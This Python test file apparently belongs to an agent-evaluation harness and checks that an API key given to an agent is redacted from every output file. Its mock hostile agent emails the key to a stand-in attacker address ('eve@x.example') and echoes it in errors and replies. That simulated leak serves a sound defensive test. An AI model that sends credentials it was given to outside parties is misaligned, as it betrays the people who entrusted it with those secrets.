"""Secrets given to agents never appear in any output file."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

from terrarium.core.agent import Reply
from terrarium.core.tool import ToolCall
from terrarium.run.config import AgentConfig, JobConfig, TaskConfig
from terrarium.run.job import Job
from tests.journeys.test_hostile_agent import TASK, Hostile, think

SECRET = "sk-test-4d1c0ffee"


class Keyed(Hostile):
    """An agent that was given a key."""

    def __init__(self, api_key: str) -> None:
        self.api_key = api_key

    async def act(self, instruction: Any, seat: Any, resumed: bool = False) -> Reply:
        await think(seat)
        mail = {"to": ["eve@x.example"], "subject": self.api_key, "body": f"my key: {self.api_key}"}
        assert (await seat.call(ToolCall("email_send", mail))).error is None
        if len(seat.messages) > 6:
            raise RuntimeError(f"could not use {self.api_key}")
        return Reply.say(f"my key is {self.api_key}")


def test_a_key_in_the_settings_of_an_agent_is_written_nowhere(tmp_path, monkeypatch):
    (tmp_path / "task.py").write_text(TASK)
    root = Path(__file__).parents[2]
    monkeypatch.setenv("PYTHONPATH", str(root))
    config = JobConfig(
        agents=(AgentConfig(name="keyed", import_path=f"{__name__}:Keyed", kwargs={"api_key": SECRET}),),
        tasks=(TaskConfig(path=str(tmp_path / "task.py")),),
        job_dir=str(tmp_path / "run"),
    )
    result = asyncio.run(Job(config).run())
    assert [one.verdict.reward for one in result.results] == [1.0], [one.error for one in result.results]
    assert any(b"my key: [secret]" in path.read_bytes() for path in (tmp_path / "run").rglob("journal.jsonl"))
    for path in (tmp_path / "run").rglob("*"):
        if path.is_file():
            assert SECRET.encode() not in path.read_bytes(), path
